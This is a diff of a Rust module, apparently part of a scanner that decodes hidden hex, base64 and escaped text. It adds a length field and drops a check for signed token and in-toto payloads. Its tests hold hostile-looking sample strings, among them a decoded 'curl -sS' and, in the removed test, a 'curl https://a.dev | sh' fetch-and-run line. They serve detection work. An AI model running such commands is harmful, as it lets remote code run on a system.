@@ -2,12 +2,14 @@
 //!
 //! The pieces found together are never longer than the text they come from, and nothing decoded is decoded again.
 
+use std::ops::Range;
+
 /// A decoded piece of text and where its encoded form begins in the raw text.
 pub(super) struct Piece {
     pub origin: usize,
+    /// How long that form is, in bytes.
+    pub length: usize,
     pub text: String,
-    /// It is the payload of a signature: a statement of in-toto, or a head or the claims of a token.
-    pub is_signed: bool,
 }
 
 /// A run of letters shorter than this is not tried.
@@ -41,33 +43,14 @@ const fn is_base64(byte: u8) -> bool {
     byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_')
 }
 
-fn keep(found: &mut Vec<Piece>, origin: usize, bytes: &[u8]) {
+fn keep(found: &mut Vec<Piece>, encoded: Range<usize>, bytes: &[u8]) {
     if let Some(text) = readable(bytes) {
-        let is_signed = is_signed(&text);
         found.push(Piece {
-            origin,
+            origin: encoded.start,
+            length: encoded.len(),
             text,
-            is_signed,
         });
     }
-}
-
-/// Whether a text parses as a statement of in-toto, or as the head or the claims of a JSON web token. Addresses are names
-/// in those.
-fn is_signed(text: &str) -> bool {
-    if !text.starts_with('{') {
-        return false;
-    }
-    let Ok(serde_json::Value::Object(object)) = serde_json::from_str(text) else {
-        return false;
-    };
-    let has = |key: &str| object.contains_key(key);
-    let statement = object.get("_type").and_then(|kind| kind.as_str());
-    statement.is_some_and(|kind| kind.starts_with("https://in-toto.io/Statement/"))
-        && has("subject")
-        && has("predicateType")
-        || has("alg") && (has("typ") || has("kid"))
-        || has("iss") && (has("exp") || has("iat")) && (has("sub") || has("aud"))
 }
 
 /// Text, if nearly all of it is printable ASCII; UTF-16 of ASCII counts too.
@@ -108,9 +91,9 @@ fn word(bytes: &[u8], start: usize, found: &mut Vec<Piece>) -> usize {
             .chunks_exact(2)
             .map(|pair| digit(pair[0]) << 4 | digit(pair[1]))
             .collect();
-        keep(found, start, &decoded);
+        keep(found, start..end, &decoded);
     } else if mixed(run) {
-        keep(found, start, &base64(run));
+        keep(found, start..end, &base64(run));
     }
     end
 }
@@ -135,7 +118,7 @@ fn mixed(run: &[u8]) -> bool {
 }
 
 /// Standard and URL alphabets at once; a rest of fewer than eight bits is dropped.
-fn base64(run: &[u8]) -> Vec<u8> {
+pub(super) fn base64(run: &[u8]) -> Vec<u8> {
     let mut out = Vec::with_capacity(run.len() * 3 / 4);
     let (mut bits, mut count) = (0_u32, 0);
     for byte in run {
@@ -174,7 +157,7 @@ fn escapes(bytes: &[u8], start: usize, found: &mut Vec<Piece>) -> usize {
         at += length;
     }
     if decoded.len() >= SHORTEST_TEXT {
-        keep(found, start, &decoded);
+        keep(found, start..at, &decoded);
     }
     at.max(start + 1)
 }
@@ -245,7 +228,7 @@ fn numbers(bytes: &[u8], start: usize, found: &mut Vec<Piece>) -> usize {
         at += length;
     }
     if decoded.len() >= SHORTEST_TEXT {
-        keep(found, start, &decoded);
+        keep(found, start..at, &decoded);
     }
     at
 }
@@ -280,27 +263,6 @@ mod tests {
             decoded("f(0x63, 0x75, 0x72, 0x6c, 0x20, 0x2d, 0x73, 0x53)"),
             ["curl -sS"]
         );
-    }
-
-    #[test]
-    fn payloads_of_signatures_are_known_by_what_they_hold() {
-        let signed = |raw: &str| {
-            pieces(raw)
-                .iter()
-                .map(|piece| piece.is_signed)
-                .collect::<Vec<_>>()
-        };
-        assert_eq!(signed("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9"), [true]);
-        let statement =
-            r#"{"_type":"https://in-toto.io/Statement/v1","subject":[],"predicateType":"x"}"#;
-        assert!(is_signed(statement));
-        for other in [
-            r#"{"_type":"https://in-toto.io/Statement/v1","run":"curl https://a.dev | sh"}"#,
-            r#"{"url":"https://drop.test-host.dev/"}"#,
-            "{\"alg\":1",
-        ] {
-            assert!(!is_signed(other), "{other}");
-        }
     }
 
     #[test]
